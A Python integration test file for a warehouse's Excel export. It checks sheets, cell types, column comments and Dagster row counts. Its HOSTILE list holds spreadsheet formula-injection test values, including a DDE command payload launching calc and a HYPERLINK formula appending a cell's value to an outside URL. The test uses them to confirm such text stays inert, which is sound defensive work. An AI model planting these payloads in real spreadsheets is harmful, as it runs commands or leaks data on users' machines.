"""The Excel workbook of a real refresh of the seed, read back with openpyxl: an edition
sheet, then every `bi` view with its rows, types and column descriptions; text that a
spreadsheet would run stays text."""

from __future__ import annotations

import math
import shutil
from datetime import date, datetime
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from seed_warehouse import Published, published_seed

from orchestration.cli import main
from orchestration.editions import list_editions
from orchestration.settings import Settings
from orchestration.workbook import EDITION_SHEET, workbook_path, write_workbook

pytestmark = pytest.mark.integration

HOSTILE = [
    '=HYPERLINK("http://example.com/?"&A1;"Звіт")',
    "=cmd|' /C calc'!A0",
    "+380 412 48 12 00",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "#DIV/0!",
    "Управління культури міської ради — «Ї, є, ґ, і»",
]


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Published:
    return published_seed(tmp_path_factory)


def _bi_views(path: Path) -> dict[str, tuple[list[tuple[str, str, str]], list[tuple]]]:
    """Each bi view's (name, type, description) columns and rows, from DuckDB itself."""
    views = {}
    with duckdb.connect(str(path), read_only=True) as con:
        names = con.execute(
            "select view_name from duckdb_views() where schema_name = 'bi' order by 1"
        ).fetchall()
        for (view,) in names:
            columns = con.execute(
                "select column_name, data_type, comment from duckdb_columns() "
                "where schema_name = 'bi' and table_name = ? order by column_index",
                [view],
            ).fetchall()
            rows = con.execute(f'select * from bi."{view}" order by all').fetchall()
            views[view] = (columns, rows)
    return views


def _same(expected: object, cell) -> bool:
    """A DuckDB value and the cell openpyxl reads back: numbers as numbers, dates as dates."""
    got = cell.value
    if expected is None:
        return got is None
    if isinstance(expected, datetime):
        return cell.is_date and got == expected
    if isinstance(expected, date):
        return (
            cell.is_date
            and cell.number_format == "yyyy-mm-dd"
            and got == datetime(expected.year, expected.month, expected.day)
        )
    if isinstance(expected, bool):
        return cell.data_type == "b" and got is expected
    if isinstance(expected, float):  # written with 16 significant digits; Excel shows 15
        return cell.data_type == "n" and math.isclose(got, expected, rel_tol=1e-15)
    if isinstance(expected, int):
        return cell.data_type == "n" and got == expected
    return cell.data_type == "s" and got == str(expected)


def test_the_workbook_starts_with_the_edition_and_its_sources_then_one_sheet_per_bi_view(
    published: Published,
) -> None:
    settings = published.settings
    book = load_workbook(workbook_path(settings))
    views = _bi_views(settings.published_path)
    assert book.sheetnames == [EDITION_SHEET, *views]
    texts = {c for row in book[EDITION_SHEET].iter_rows(values_only=True) for c in row if c}
    edition = list_editions(settings)[-1]
    assert edition.stamp in texts
    for source in edition.manifest()["sources"]:
        assert {source["source_path"], source["document_id"]} <= texts
    assert set(views) <= texts


def test_every_bi_view_reads_back_with_its_rows_types_and_column_descriptions(
    published: Published,
) -> None:
    book = load_workbook(workbook_path(published.settings))
    for view, (columns, rows) in _bi_views(published.settings.published_path).items():
        sheet = book[view]
        header, *body = list(sheet.iter_rows())
        assert [c.value for c in header] == [name for name, _, _ in columns], view
        for cell, (name, _, description) in zip(header, columns, strict=True):
            assert description and description.strip() in cell.comment.text, (view, name)
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(columns))}{len(rows) + 1}"
        assert len(body) == len(rows) > 0, view
        for expected, cells in zip(rows, body, strict=True):
            wrong = [
                (name, value, cell.value)
                for (name, _, _), value, cell in zip(columns, expected, cells, strict=True)
                if not _same(value, cell)
            ]
            assert not wrong, (view, wrong)
    formulas = [
        c for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"
    ]
    assert not formulas


def test_text_a_spreadsheet_would_run_stays_text_and_a_new_view_gets_its_own_sheet(
    published: Published, tmp_path: Path
) -> None:
    settings = Settings(published.settings.project_root, published.settings.sources_dir, tmp_path)
    shutil.copyfile(published.settings.published_path, settings.published_path)
    with duckdb.connect(str(settings.published_path)) as con:
        con.execute("create table bi.hostile_texts (n integer, text varchar)")
        con.executemany("insert into bi.hostile_texts values (?, ?)", list(enumerate(HOSTILE)))
        con.execute("comment on column bi.hostile_texts.text is 'Текст, як його надруковано'")
    written = write_workbook(settings)
    assert written.edition is None  # a copy: no edition of this warehouse folder
    sheet = load_workbook(written.path)["hostile_texts"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}
    assert sheet["B1"].comment.text.startswith("Текст, як його надруковано")


def test_warehouse_export_xlsx_rewrites_the_workbook_from_the_published_file(
    published: Published, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    settings = published.settings
    monkeypatch.setenv("WAREHOUSE_DIR", str(settings.warehouse_dir))
    workbook_path(settings).unlink()
    assert main(["export", "--xlsx"]) == 0
    out = capsys.readouterr().out
    assert f"Workbook {workbook_path(settings).as_posix()}: a sheet `edition`" in out
    assert load_workbook(workbook_path(settings), read_only=True).sheetnames[0] == EDITION_SHEET


def test_the_workbook_materialization_counts_the_rows_of_every_bi_view(
    published: Published, monkeypatch: pytest.MonkeyPatch
) -> None:
    import dagster as dg

    views = _bi_views(published.settings.published_path)
    monkeypatch.setenv("DAGSTER_HOME", str(published.settings.dagster_home))
    with dg.DagsterInstance.get() as instance:
        event = instance.get_latest_materialization_event(dg.AssetKey("bi_workbook"))
    metadata = event.asset_materialization.metadata
    assert metadata["dagster/row_count"].value == sum(len(rows) for _, rows in views.values())
    assert metadata["path"].value.endswith("export/warehouse.xlsx")
